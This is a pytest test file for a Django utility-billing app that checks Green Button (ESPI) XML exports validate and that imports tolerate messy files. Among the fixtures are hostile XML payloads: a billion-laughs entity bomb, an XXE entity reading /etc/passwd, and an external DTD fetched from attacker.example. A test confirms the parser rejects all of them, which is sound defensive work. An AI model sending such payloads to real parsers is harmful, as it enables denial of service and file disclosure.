"""Green Button: exports validate against ESPI 4.0; imports are tolerant of real files and safe against hostile ones."""

from datetime import date
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from lxml import etree

from amiportal.premises.models import Meter, MeterKind
from billing.formats.espi_read import EspiFormatError, parse_espi
from billing.models import Channel, IntervalReading
from billing.services.greenbutton import greenbutton_import
from billing.services.ingest import local_day_bounds
from tests.billing.helpers import ingest, readings
from tests.espi_validation import validation_errors
from tests.factories import MeterFactory, PremiseFactory

pytestmark = pytest.mark.django_db
ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def premise():
    premise = PremiseFactory(service_point_id="SP-GB1", has_der=True)
    MeterFactory(premise=premise, serial_number="E-GB1")
    return premise


def _export(premise, tmp_path, start="2025-03-08", end="2025-03-10") -> bytes:
    output = tmp_path / "out.xml"
    call_command(
        "export_greenbutton",
        "--premise",
        premise.service_point_id,
        "--start",
        start,
        "--end",
        end,
        "--output",
        str(output),
        stdout=StringIO(),
    )
    return output.read_bytes()


def test_export_validates_against_espi_and_links_hang_together(premise, tmp_path):
    start, _ = local_day_bounds(date(2025, 3, 8), "America/Chicago")
    ingest(readings("E-GB1", start, hours=71))  # across the spring-forward day
    ingest(readings("E-GB1", start, hours=71, channel=Channel.RECEIVED, value=lambda m: 40))
    xml = _export(premise, tmp_path)
    assert validation_errors(xml) == []
    feed = etree.fromstring(xml)
    entries = feed.findall(f"{ATOM}entry")
    selves = {e.find(f"{ATOM}link[@rel='self']").get("href") for e in entries}
    assert all(e.find(f"{ATOM}link[@rel='up']") is not None for e in entries)
    for entry in entries:
        for link in entry.findall(f"{ATOM}link[@rel='related']"):
            href = link.get("href")
            assert href in selves or any(s.startswith(href + "/") for s in selves), href
    blocks = [e for e in entries if "/IntervalBlock/" in e.find(f"{ATOM}link[@rel='self']").get("href")]
    assert len(blocks) == 6  # three local days, two channels
    assert len(xml) > 0 and xml.count(b"<IntervalReading>") == 2 * 71 * 4


def test_an_export_imports_back_as_duplicates_and_into_a_fresh_premise(premise, tmp_path):
    start, _ = local_day_bounds(date(2025, 3, 8), "America/Chicago")
    ingest(readings("E-GB1", start, hours=24))
    xml = _export(premise, tmp_path)
    again = greenbutton_import(premise=premise, data=xml)
    assert (again.imported, again.skipped, again.rejected) == (0, 96, 0)
    other = PremiseFactory(service_point_id="SP-GB2")
    fresh = greenbutton_import(premise=other, data=xml)
    assert (fresh.imported, fresh.rejected) == (96, 0)
    created = Meter.objects.get(premise=other)
    assert created.kind == MeterKind.ELECTRIC
    assert IntervalReading.objects.filter(meter=created).count() == 96


SLOPPY = b"""<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom">
 <id>x</id><title>t</title><updated>2025-01-05</updated>
 <entry><id>1</id><link rel="self" href="https://u.example/UsagePoint/7"/><title>Gas</title><updated>2025-01-05</updated>
  <content><UsagePoint xmlns="http://naesb.org/espi"><servicecategory><KIND>1</KIND></servicecategory></UsagePoint></content></entry>
 <entry><id>2</id><link rel="self" href="https://u.example/UsagePoint/7/MeterReading/1"/><link rel="up" href="https://u.example/UsagePoint/7/MeterReading"/>
  <title>r</title><updated>2025-01-05</updated><content><MeterReading xmlns="http://naesb.org/espi"/></content></entry>
 <entry><id>3</id><link rel="self" href="https://u.example/ReadingType/9"/><title>rt</title><updated>2025-01-05</updated>
  <content><readingtype xmlns="http://naesb.org/espi"><flowDirection>1</flowDirection><intervalLength>86400</intervalLength>
  <powerOfTenMultiplier>-2</powerOfTenMultiplier><UOM>169</UOM></readingtype></content></entry>
 <entry><id>4</id><link rel="self" href="https://u.example/UsagePoint/7/MeterReading/1/IntervalBlock/1"/>
  <link rel="up" href="https://u.example/UsagePoint/7/MeterReading/1/IntervalBlock"/><title>b</title><updated>2025-01-05</updated>
  <content><intervalblock xmlns="http://naesb.org/espi">
   <IntervalReading><timePeriod><duration>86400</duration><start>1735711200</start></timePeriod><value>312</value></IntervalReading>
   <IntervalReading><timePeriod><duration>86400</duration><start>1735797600</start></timePeriod><value>-4</value></IntervalReading>
   <IntervalReading><timePeriod><duration>86400</duration><start>1735884000</start></timePeriod></IntervalReading>
  </intervalblock></content></entry>
</feed>"""


def test_a_sloppy_real_world_gas_file_imports_what_is_clear(premise, tmp_path):
    path = tmp_path / "gas.xml"
    path.write_bytes(SLOPPY)
    out = StringIO()
    call_command("import_greenbutton", str(path), premise="SP-GB1", stdout=out)
    assert "imported 1, skipped 0, rejected 2" in out.getvalue()
    gas = Meter.objects.get(premise=premise, kind=MeterKind.GAS)
    reading = IntervalReading.objects.get(meter=gas)
    assert (reading.value, reading.seconds) == (3120, 86400)  # 3.12 therm in mtherm


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&lol3;</title></feed>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&secret;</title></feed>"""
NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE feed SYSTEM "http://attacker.example/evil.dtd">
<feed xmlns="http://www.w3.org/2005/Atom"/>"""


@pytest.mark.objective("SO-U2")
@pytest.mark.parametrize("payload", [BOMB, XXE, NETWORK, b"<feed", b"<notatom/>", b"\xff\xfe garbage"])
def test_hostile_or_broken_files_are_refused_whole(payload):
    with pytest.raises(EspiFormatError):
        parse_espi(payload)


def test_oversized_files_are_refused_before_parsing(premise, tmp_path):
    path = tmp_path / "big.xml"
    path.write_bytes(SLOPPY)
    out = StringIO()
    with pytest.raises(CommandError):
        call_command("import_greenbutton", str(path), "--premise", "SP-GB1", "--max-bytes", "100", stdout=out)
    assert "limit is 100" in out.getvalue()
    assert not IntervalReading.objects.exists()


def test_import_needs_a_known_premise(tmp_path):
    path = Path(tmp_path / "x.xml")
    path.write_bytes(SLOPPY)
    with pytest.raises(CommandError):
        call_command("import_greenbutton", str(path), premise="SP-NOPE", stdout=StringIO())


U = "https://u.example/UsagePoint/1"
STAMP = "<updated>2025-01-05T00:00:00Z</updated>"


def _entry(entry_id: str, links: str, content: str) -> str:
    return f"<entry><id>{entry_id}</id>{links}<title>t</title>{STAMP}<content>{content}</content></entry>"


def _feed(blocks: str, interval_lengths=(900,)) -> bytes:
    espi = 'xmlns="http://naesb.org/espi"'
    parts = [
        _entry("up", f'<link rel="self" href="{U}"/>', f"<UsagePoint {espi}><ServiceCategory><kind>0</kind></ServiceCategory></UsagePoint>")
    ]
    for n, length in enumerate(interval_lengths, 1):
        reading_type = (
            f"<ReadingType {espi}><flowDirection>1</flowDirection><intervalLength>{length}</intervalLength><uom>72</uom></ReadingType>"
        )
        parts.append(_entry(f"rt{n}", f'<link rel="self" href="https://u.example/ReadingType/{n}"/>', reading_type))
        links = (
            f'<link rel="self" href="{U}/MeterReading/{n}"/><link rel="up" href="{U}/MeterReading"/>'
            f'<link rel="related" href="https://u.example/ReadingType/{n}"/>'
        )
        parts.append(_entry(f"mr{n}", links, f"<MeterReading {espi}/>"))
    head = f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><id>f</id><title>t</title>{STAMP}'
    return (head + "".join(parts) + blocks + "</feed>").encode()


def _block(meter_reading: int, readings: list[tuple[int, int, int]]) -> str:
    body = "".join(
        f"<IntervalReading><timePeriod><duration>{d}</duration><start>{s}</start></timePeriod><value>{v}</value></IntervalReading>"
        for s, d, v in readings
    )
    blocks = f"{U}/MeterReading/{meter_reading}/IntervalBlock"
    links = f'<link rel="self" href="{blocks}/1"/><link rel="up" href="{blocks}"/>'
    return _entry(f"b{meter_reading}-{readings[0][0]}", links, f'<IntervalBlock xmlns="http://naesb.org/espi">{body}</IntervalBlock>')


def test_daily_totals_beside_15_minute_data_are_skipped_not_rejected(premise):
    day_one = 1735711200  # 2025-01-01 00:00 in Chicago
    fifteen = [(day_one + 900 * i, 900, 100) for i in range(96)]
    daily = [(day_one, 86400, 9600), (day_one + 86400, 86400, 7000)]
    result = greenbutton_import(premise=premise, data=_feed(_block(1, fifteen) + _block(2, daily), (900, 86400)))
    assert (result.imported, result.skipped, result.rejected) == (97, 1, 0)
    stored = IntervalReading.objects.filter(meter__premise=premise)
    assert stored.filter(seconds=900).count() == 96 and stored.filter(seconds=86400).count() == 1
